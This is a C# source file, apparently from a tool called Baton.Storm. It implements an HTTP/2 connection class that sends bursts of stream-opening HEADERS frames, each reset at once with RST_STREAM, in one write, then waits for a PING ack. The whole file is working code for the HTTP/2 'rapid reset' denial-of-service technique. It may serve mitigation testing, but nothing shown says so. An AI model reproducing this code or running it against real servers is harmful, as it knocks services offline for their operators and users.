using System.Net;
using System.Net.Sockets;

namespace Baton.Storm;

/// <summary>A connection of HTTP/2 that opens streams and resets them at once.</summary>
internal sealed class RapidConnection : IDisposable
{
    private readonly Socket _socket =
        new(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
    private readonly NetworkStream _stream;
    private int _nextStream = 1;

    private RapidConnection(IPEndPoint server)
    {
        _socket.Connect(server);
        _stream = new NetworkStream(_socket);
    }

    internal static async Task<RapidConnection> OpenAsync(IPEndPoint server)
    {
        var connection = new RapidConnection(server);
        await connection._stream.WriteAsync(Http2Frames.Preface);
        return connection;
    }

    /// <summary>
    /// Opens so many streams and resets each, in one piece, and waits until the server has read it all.
    /// </summary>
    internal async Task BurstAsync(string path, int count)
    {
        var bytes = new List<byte>();
        for (var i = 0; i < count; i++, _nextStream += 2)
        {
            bytes.AddRange(Http2Frames.Headers(_nextStream, path, hasBody: false));
            bytes.AddRange(Http2Frames.Reset(_nextStream));
        }

        bytes.AddRange(Http2Frames.Ping);
        await _stream.WriteAsync(bytes.ToArray());
        await ReadToPingAckAsync();
    }

    public void Dispose()
    {
        _stream.Dispose();
        _socket.Dispose();
    }

    private async Task ReadToPingAckAsync()
    {
        var header = new byte[Http2Frames.HeaderSize];
        while (true)
        {
            await _stream.ReadExactlyAsync(header);
            await _stream.ReadExactlyAsync(new byte[Http2Frames.LengthOf(header)]);
            if (Http2Frames.IsPingAck(header))
            {
                return;
            }

            if (Http2Frames.IsSettings(header))
            {
                await _stream.WriteAsync(Http2Frames.SettingsAck);
            }
        }
    }
}
